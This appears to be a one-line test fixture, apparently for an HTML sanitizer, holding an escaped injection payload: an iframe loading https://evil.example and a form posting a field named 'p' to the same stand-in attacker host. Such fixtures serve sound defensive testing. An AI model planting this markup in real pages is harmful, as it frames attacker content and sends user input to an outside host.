# An iframe and a form posting elsewhere.
text_repo \<iframe\ src=\"https://evil.example\"\>\</iframe\>\<form\ action=\"https://evil.example\"\>\<input\ name=\"p\"\>\</form\>
